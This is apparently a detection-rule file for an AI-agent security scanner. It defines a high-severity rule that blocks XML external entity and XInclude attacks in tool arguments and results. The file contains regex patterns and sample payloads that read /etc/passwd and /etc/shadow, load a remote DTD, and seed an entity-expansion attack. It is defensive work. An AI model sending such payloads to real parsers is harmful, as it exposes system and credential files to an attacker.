import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "CMDEXEC_118",
  title: "XML that pulls in a file or an address",
  why: "A parser that resolves the entity reads a local file or calls a server on the sender's behalf.",
  fix: "Turn external entities off in the parser.",
  severity: "high",
  category: "command-execution",
  lane: "block",
  maps: {
    asi: ["ASI02"],
    mcp: ["MCP05"],
    cwe: ["CWE-611"],
    see: ["https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing"],
  },
  keywords: ["<!entity", "<!doctype", "xi:include", "&lt;!entity"],
  match: [
    /<!ENTITY\s{1,4}(?:%\s{1,3})?[\w.-]{1,40}\s{1,4}(?:SYSTEM|PUBLIC\s{1,3}["'][^"'\n]{0,80}["'])\s{1,4}["'](?:file|php|expect|gopher|ftp|jar|netdoc|data|https?):/i,
    /<xi:include\b[^>\n]{0,120}\bhref\s{0,2}=\s{0,2}["'](?:file:|\/etc\/|https?:)/i,
    /(?:<!ENTITY\s{1,3}\w{1,12}\s{1,3}["'](?:&\w{1,12};){5,20}["']>)/i,
  ],
  examples: {
    flags: [
      {
        text: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        kind: "tool_argument",
      },
      { text: '<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://203.0.113.4/e.dtd"> %remote;]>', kind: "tool_result" },
      {
        text:
          '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/shadow"/></foo>',
        kind: "tool_argument",
      },
      { text: '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">', kind: "tool_argument" },
    ],
    passes: [{ text: "<!DOCTYPE html><html><body>Hi</body></html>", kind: "document" }, {
      text: '<!ENTITY copy "&#169;">',
      kind: "document",
    }, {
      text: '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
      kind: "document",
    }],
  },
});
